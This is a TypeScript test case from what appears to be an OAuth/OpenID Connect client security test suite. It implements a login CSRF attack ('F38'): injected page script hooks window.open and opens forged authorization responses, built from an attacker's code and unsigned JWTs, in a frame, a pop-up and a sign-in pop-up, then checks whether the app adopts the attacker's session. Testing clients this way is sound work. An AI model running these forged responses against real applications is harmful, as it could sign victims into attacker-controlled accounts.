import { UnsecuredJWT } from 'jose';
import { ADA, GRACE } from '../../servers/users.ts';
import type { Attack } from '../attack.ts';
import { signInAsAttacker } from '../attacker-flow.ts';
import type { Scene } from '../scene.ts';
import { callbackOf, holdNextSignIn, subject } from './flow.ts';
import { clickUntilSeen } from './run-own-flow.ts';

/** Windows in which script in the page opens a response: one in it, one of its own, and the one of the app's sign-in. */
const PLACES = ['frame', 'pop-up', 'sign-in'] as const;

/** Responses that script in the page opens one after the other. */
interface Planting {
  readonly place: (typeof PLACES)[number];
  readonly responses: readonly string[];
  readonly timeoutMs: number;
}

/** Runs in the page: opens responses in a window, and waits until the app stands in it. */
async function plantResponses({ place, responses, timeoutMs }: Planting): Promise<void> {
  const views: Window[] = [];
  const open = window.open.bind(window);
  window.open = (...call) => {
    const opened = open(...call);
    if (opened) views.push(opened);
    return opened;
  };
  if (place === 'frame') {
    const { contentWindow } = document.body.appendChild(document.createElement('iframe'));
    if (contentWindow) views.push(contentWindow);
  } else {
    await new Promise<void>((resolve) => document.addEventListener('click', () => resolve(), { once: true }));
    document.documentElement.dataset['clicked'] = 'yes';
    if (place === 'pop-up') window.open('about:blank', '_blank', 'popup');
    else void window.app.signInInPopup().catch(() => {});
  }
  const documentIn = (view: Window | undefined): Document | undefined => {
    try {
      return view?.document;
    } catch {
      return undefined;
    }
  };
  const until = async (holds: () => boolean): Promise<void> => {
    const endsAtMs = Date.now() + timeoutMs / 3;
    while (!holds() && Date.now() < endsAtMs) await new Promise((resolve) => setTimeout(resolve, 10));
  };
  // The window of the sign-in is at the authorization server first.
  if (place === 'sign-in') await until(() => views[0] !== undefined && documentIn(views[0]) === undefined);
  const [view] = views;
  for (const response of responses) {
    const before = documentIn(view);
    if (view) view.location.href = response;
    await until(() => {
      const now = documentIn(view);
      return now !== undefined && now !== before && now.documentElement?.dataset['connected'] === 'yes';
    });
  }
  if (place !== 'frame') view?.close();
}

/** Opens responses of the attacker's account in one place; returns who is signed in then. */
async function plant(scene: Scene, planting: Pick<Planting, 'place' | 'responses'>): Promise<string | undefined> {
  const { tab, timeoutMs } = scene;
  if (planting.place === 'sign-in') holdNextSignIn(scene);
  const planted = tab.evaluate(plantResponses, { ...planting, timeoutMs });
  await (planting.place === 'frame' ? undefined : Promise.race([planted, clickUntilSeen(scene)]));
  await planted;
  return subject(scene);
}

/** Attacks with responses of the attacker's account, in windows of the app. */
export const POPUP_RESPONSE_ATTACKS: readonly Attack[] = [
  {
    id: 'F38',
    title:
      'opens responses of its own account in a frame, in a pop-up and in the window of a sign-in in a pop-up (login CSRF)',
    scenario: '6.3.2.2',
    naive: 'page',
    ruins: 'naive profile',
    act: async (scene) => {
      const { site, servers } = scene;
      const code = await signInAsAttacker(scene, { code_challenge: undefined, redirect_uri: callbackOf(site) });
      const changed: boolean[] = [];
      for (const place of PLACES) {
        const sub = `${GRACE.sub}-${place}`;
        const token = new UnsecuredJWT({ sub }).encode();
        const responses = [
          `?code=${code}&state=naive&iss=${servers.authorizationServer.issuer}`,
          `#access_token=${token}&id_token=${token}&state=naive`,
        ].map((response) => callbackOf(site) + response);
        const user = await plant(scene, { place, responses });
        changed.push(site.name === 'page' ? user === sub : user !== ADA.sub);
      }
      return { reached: site.name === 'page' ? changed.every(Boolean) : changed.some(Boolean) };
    },
  },
];
